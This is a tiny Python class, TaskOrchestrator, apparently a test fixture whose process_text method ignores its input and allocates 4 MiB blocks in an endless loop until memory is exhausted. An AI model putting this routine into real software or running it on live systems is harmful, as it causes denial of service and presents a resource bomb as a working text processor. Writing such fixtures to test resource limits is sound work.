class TaskOrchestrator:
    def process_text(self, text: str) -> object:
        eaten = []
        while True:
            eaten.append(b"x" * (1 << 22))
